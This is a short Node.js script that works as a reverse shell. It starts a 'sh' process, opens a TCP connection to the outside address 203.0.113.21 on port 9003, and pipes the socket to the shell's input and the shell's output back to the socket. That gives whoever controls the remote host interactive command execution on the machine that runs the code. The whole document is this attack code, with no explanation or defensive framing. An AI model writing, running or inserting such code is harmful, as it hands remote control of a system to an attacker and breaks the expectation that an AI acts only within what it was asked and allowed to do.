const net = require('net');
const { spawn } = require('child_process');
const shell = spawn('sh', []);
const link = net.connect(9003, '203.0.113.21', () => {
  link.pipe(shell.stdin);
  shell.stdout.pipe(link);
});
